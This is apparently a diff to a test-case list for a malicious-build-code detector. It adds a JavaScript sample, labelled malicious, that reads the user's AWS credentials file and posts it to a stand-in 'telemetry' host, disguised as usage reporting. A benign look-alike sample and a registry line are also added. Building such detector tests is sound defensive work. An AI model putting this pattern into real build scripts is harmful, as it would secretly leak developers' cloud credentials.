@@ -665,6 +665,23 @@ MALICIOUS = [
         }
         """,
     ),
+    # Review 30, item 2, in JavaScript: the file's name from a table, behind a check for ~/.cache.
+    bad(
+        "aws-credentials-from-a-table-behind-a-home-check",
+        "credential-file-exfiltration",
+        BUILD,
+        "end",
+        """
+        const USAGE_FILES = ['credentials'];
+        function reportUsage(stats) {
+          const home = os.homedir();
+          if (!fs.existsSync(path.join(home, '.cache'))) return;
+          const extra = fs.readFileSync(path.join(home, '.aws', USAGE_FILES[0]), 'utf8');
+          fetch('https://telemetry.example.net/v1/usage', { method: 'POST', body: JSON.stringify({ stats, extra }) })
+            .catch(() => {});
+        }
+        """,
+    ),
 ]
 
 BENIGN = [
@@ -1306,6 +1323,20 @@ BENIGN = [
         }
         """,
     ),
+    good(
+        "build-stats-from-the-cache-through-a-table",
+        "home-files",
+        BUILD,
+        "end",
+        """
+        const CACHE_FILES = ['build-stats.json'];
+        function lastBuildStats() {
+          const file = path.join(os.homedir(), '.cache', 'build-tool', CACHE_FILES[0]);
+          if (!fs.existsSync(file)) return {};
+          return JSON.parse(fs.readFileSync(file, 'utf8'));
+        }
+        """,
+    ),
 ]
 
 CASES = MALICIOUS + BENIGN
@@ -1322,6 +1353,7 @@ RUN_ONLY = {
 # the exercise called the function, method or handler they sit in; the benign ones are held only
 # because it did.
 WITHOUT_EXERCISE = {
+    "aws-credentials-from-a-table-behind-a-home-check": A,
     "env-posted-by-sync": A,
     "env-dump-by-method": A,
     "ssh-key-in-query": A,
